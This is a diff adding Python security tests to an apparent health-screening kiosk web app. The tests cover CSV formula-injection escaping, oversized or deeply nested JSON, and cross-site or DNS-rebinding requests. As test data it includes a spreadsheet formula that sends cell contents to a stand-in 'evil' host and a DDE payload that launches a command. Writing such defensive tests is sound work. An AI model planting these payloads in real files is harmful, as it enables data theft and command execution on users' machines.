@@ -8,6 +8,7 @@ in all three languages.
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
 import os
@@ -745,3 +746,47 @@ def test_redflag_message_in_each_language(client):
         body = client.get(f"/api/redflag-message?flags=bleeding,nail_streak,nonsense&lang={lang}").get_json()
         assert body == {"text": urgent_message(lang, ["bleeding", "nail_streak"])}
     assert client.get("/api/redflag-message").get_json()["text"] == urgent_message("en", [])
+
+
+# -- requests from elsewhere ----------------------------------------------------------------------------------
+def test_a_note_cannot_become_a_spreadsheet_formula_in_the_export(kiosk, client):
+    """A note typed as "=HYPERLINK(...)" ran as a formula when the worker opened the CSV in a spreadsheet."""
+    result = capture(client)
+    for note in ('=HYPERLINK("http://evil/?"&A2,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"):
+        assert client.post(f"/api/history/{result['id']}/note", json={"note": note}).status_code == 200
+        rows = list(csv.reader(io.StringIO(client.get("/api/history.csv").get_data(as_text=True))))
+        row = next(r for r in rows if r[0] == result["id"])
+        assert row[-1] == "'" + note, row
+    assert client.post(f"/api/history/{result['id']}/note", json={"note": "a plain note"}).status_code == 200
+    assert kiosk.history.entries()[0]["note"] == "a plain note"  # stored as typed; only the export escapes
+
+
+def test_deep_or_huge_json_gets_a_4xx_not_a_500_or_the_memory(client):
+    deep = "[" * 1000 + "]" * 1000
+    for path in ("/api/chat", "/api/symptoms/0123456789abcdef", "/api/history/0123456789abcdef/note"):
+        response = client.post(path, data=deep, content_type="application/json")
+        assert 400 <= response.status_code < 500, (path, response.status_code)
+    huge = json.dumps({"message": "hi", "padding": "x" * (200 * 1024)})
+    response = client.post("/api/chat", data=huge, content_type="application/json")
+    assert response.status_code == 413 and "request body above 64 kB" in response.get_json()["error"]
+
+
+def test_pages_elsewhere_cannot_drive_or_read_the_kiosk(kiosk, client):
+    """Opened to the network, the kiosk answered any Host (a DNS-rebinding page could read the history) and
+    any cross-site POST (another page could purge the history or take a capture)."""
+    result = capture(client)
+    foreign = client.get("/api/history", headers={"Host": "attacker.example"})
+    assert foreign.status_code == 400 and "kiosk.allowed_hosts" in foreign.get_json()["error"]
+    before = len(kiosk.history.entries())
+    cross_site = {"Origin": "http://attacker.example", "Content-Type": "application/x-www-form-urlencoded"}
+    for path in ("/api/history/purge", "/api/capture", "/api/session/new"):
+        response = client.post(path, headers=cross_site)
+        assert response.status_code == 403, (path, response.status_code)
+    assert client.post("/api/capture", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
+    assert len(kiosk.history.entries()) == before  # nothing purged, nothing captured
+    cleared = kiosk.sessions.cleared
+    client.get("/", headers={"Sec-Fetch-Dest": "image", "Sec-Fetch-Site": "cross-site"})  # an <img src> elsewhere
+    assert kiosk.sessions.cleared == cleared and client.get(result["saliency_url"]).status_code == 200
+    same = client.post("/api/session/new", headers={"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"})
+    assert same.status_code == 200  # the kiosk's own page still works
+    assert client.get("/api/preview", headers={"Host": "127.0.0.1:8080"}).status_code == 200
